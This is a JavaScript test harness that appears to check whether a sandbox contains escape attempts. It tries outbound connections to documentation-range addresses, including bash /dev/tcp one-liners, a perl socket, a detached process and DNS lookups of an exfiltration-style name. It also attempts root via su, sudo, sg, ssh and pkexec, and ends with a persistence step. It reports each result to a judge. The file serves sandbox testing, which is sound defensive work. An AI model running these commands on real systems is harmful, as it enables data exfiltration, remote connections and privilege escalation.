// SPDX-License-Identifier: GPL-2.0-or-later
// hostile.mjs - every attempt that attempts.tsv lists.  As workflow it runs the C programs as well and reports all to the judge;
// with the argument `control` it makes the attempts of Node alone and prints them, one JSON line each, as hostile.c does.
import { execFile, spawn, spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';
import { promisify } from 'node:util';
import { Worker } from 'node:worker_threads';

const rows = [];
const control = process.argv[2] === 'control';
const wait = (ms) => new Promise((resolve) => { setTimeout(resolve, ms); });

// What waits for an answer waits for 300 ms: in the control nobody answers, and the wire says that it was sent.
async function attempt(id, wire, fn) {
  let got = true;
  let detail = 'ok';
  try {
    await Promise.race([fn(), wait(300).then(() => { throw Object.assign(new Error('timeout'), { code: 'ETIMEDOUT' }); })]);
  } catch (error) {
    got = false;
    detail = String(error.cause?.code ?? error.code ?? error.message).replace(/[^ -~]|["\\]/g, ' ').slice(0, 60);
  }
  rows.push({ id, got, detail, stage: 'send', wire });
}

const connected = (socket) => new Promise((resolve, reject) => {
  socket.on('error', reject);
  for (const event of ['connect', 'secureConnect']) socket.on(event, () => { socket.destroy(); resolve(); });
  setTimeout(() => socket.destroy(), 400).unref();
});
await attempt('node-connect', 'tcp 203.0.113.80 21000', () => connected(net.connect(21000, '203.0.113.80')));
await attempt('node-connect6', 'tcp 2001:db8::80 21001', () => connected(net.connect(21001, '2001:db8::80')));
await attempt('node-tls', 'tcp 203.0.113.80 21002', () => connected(tls.connect(21002, '203.0.113.80')));
await attempt('node-fetch', 'tcp 203.0.113.80 21003', () => fetch('http://203.0.113.80:21003/', { signal: AbortSignal.timeout(400) }));
await attempt('node-http', 'tcp 203.0.113.80 21004', () => new Promise((resolve, reject) => {
  const request = http.get('http://203.0.113.80:21004/', resolve).on('error', reject);
  setTimeout(() => request.destroy(), 400).unref();
}));
await attempt('node-http2', 'tcp 203.0.113.80 21005', () => new Promise((resolve, reject) => {
  const session = http2.connect('http://203.0.113.80:21005').on('connect', resolve).on('error', reject);
  setTimeout(() => session.destroy(), 400).unref();
}));
await attempt('node-dgram', 'udp 203.0.113.80 21006', () => new Promise((resolve, reject) => {
  const socket = dgram.createSocket('udp4').on('error', reject);
  socket.send('x', 21006, '203.0.113.80', (error) => { socket.close(); if (error) reject(error); else resolve(); });
}));
const resolver = (server) => {
  const r = new dns.Resolver({ timeout: 200, tries: 1 });
  r.setServers([server]);
  return r;
};
await attempt('node-resolver', 'udp 203.0.113.80 21007', () => resolver('203.0.113.80:21007').resolve4('data-carried-out.example'));
await attempt('node-resolver6', 'udp 2001:db8::80 21008', () => resolver('[2001:db8::80]:21008').resolveTxt('data-carried-out.example'));
await attempt('node-worker', 'tcp 203.0.113.80 21009', () => new Promise((resolve, reject) => {
  const worker = new Worker(`require('net').connect(21009, '203.0.113.80').on('connect', () => require('worker_threads').parentPort
    .postMessage('in')).on('error', (e) => { throw e; })`, { eval: true }).on('message', resolve).on('error', reject);
  setTimeout(() => worker.terminate(), 400);
}));
for (const [id, port, ...command] of [
  ['shell-tcp', 21010, 'bash', '-c', 'exec 3<>/dev/tcp/203.0.113.80/21010'], ['shell-udp', 21011, 'bash', '-c', 'echo x >/dev/udp/203.0.113.80/21011'],
  ['perl-tcp', 21012, 'perl', '-MIO::Socket::INET', '-e', 'IO::Socket::INET->new(PeerAddr => "203.0.113.80:21012", Timeout => 1) or die $!'],
  ['detached', 21013, 'setsid', '-f', 'bash', '-c', 'exec 3<>/dev/tcp/203.0.113.80/21013']]) {
  await attempt(id, `${id === 'shell-udp' ? 'udp' : 'tcp'} 203.0.113.80 ${port}`, async () => {
    const child = spawn(command[0], command.slice(1), { stdio: 'ignore', detached: true });
    const status = await Promise.race([new Promise((resolve, reject) => { child.on('exit', resolve).on('error', reject); }), wait(250).then(() => 'hangs')]);
    child.kill('SIGKILL');
    if (status !== 0) throw new Error(`status ${status}`);
    // a process that went on by itself has not said yet what became of it
    if (id === 'detached') { await wait(40); throw new Error('only the wire knows'); }
  });
}

// Programs that make root of who may; exit status and the word `0` alone count.
const run = promisify(execFile);
for (const [id, ...command] of [
  ['su-empty-password', 'su', 'root', '-c', 'id -u'], ['sudo', 'sudo', '-n', 'id', '-u'], ['sudo-shell', 'sudo', '-n', '-s', 'id', '-u'],
  ['sg-root', 'sg', 'root', 'id -u >&2; id -g'], ['ssh-localhost', 'ssh', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', 'root@127.0.0.1', 'id', '-u'],
  ['pkexec', 'pkexec', 'id', '-u']]) {
  let got = false;
  let detail;
  try {
    const child = run(command[0], command.slice(1), { timeout: 3000, env: { PATH: '/usr/sbin:/sbin:/usr/bin:/bin' } });
    child.child.stdin.on('error', () => {});
    child.child.stdin.end('\n');
    const { stdout } = await child;
    got = stdout.trim() === '0';
    detail = `answers ${stdout.trim()}`;
  } catch (error) {
    detail = String(error.code ?? error.message).replace(/[^ -~]|["\\]/g, ' ').slice(0, 60);
  }
  rows.push({ id, got, detail: `status ${detail}`, stage: 'call', wire: '' });
}

if (control) {
  for (const row of rows) console.log(JSON.stringify(row));
  process.exit(0);
}

const output = (program, ...args) => {
  const { stdout, error, status, signal } = spawnSync(program, args, { encoding: 'utf8', maxBuffer: 1 << 24, timeout: 20000 });
  rows.push({ id: `ran-${args[0]}`, got: status === 0, detail: `${error?.code ?? ''} ${status} ${signal ?? ''}`.trim(), stage: 'call', wire: '' });
  return (stdout ?? '').split('\n').filter((line) => line !== '');
};
for (const args of [['net'], ['paths'], ['others', String(process.pid)], ['machine'], ['floods', '400', '2000', '600']]) {
  rows.push(...output('./hostile', ...args).map((line) => JSON.parse(line)));
}
for (const group of ['sockets', 'routes', 'namespaces', 'kernel', 'identity', 'tricks']) {
  for (const line of output('./helper', group)) {
    const [id, result] = line.split(' ');
    rows.push({ id, got: Number(result) >= 0, detail: result, stage: 'call', wire: '' });
  }
}
const { HOST_ABSTRACT, HOST_SOCKET, JUDGE_URL } = process.env;
for (const line of output('./helper', 'unix', HOST_ABSTRACT, HOST_SOCKET)) {
  const [id, result] = line.split(' ');
  rows.push({ id, got: Number(result) >= 0, detail: result, stage: 'call', wire: '' });
}
for (let at = 0; at < rows.length; at += 100) {
  const reply = await fetch(`${JUDGE_URL}/reports`, {
    method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: `part-${at}`, attempts: rows.slice(at, at + 100) }) });
  if (reply.status !== 201) throw new Error(`judge answered ${reply.status} ${await reply.text()}`);
}
// Last, because some of what it leaves behind never rests; and then it ends as if nothing were.
spawnSync('./hostile', ['survive'], { stdio: 'ignore' });
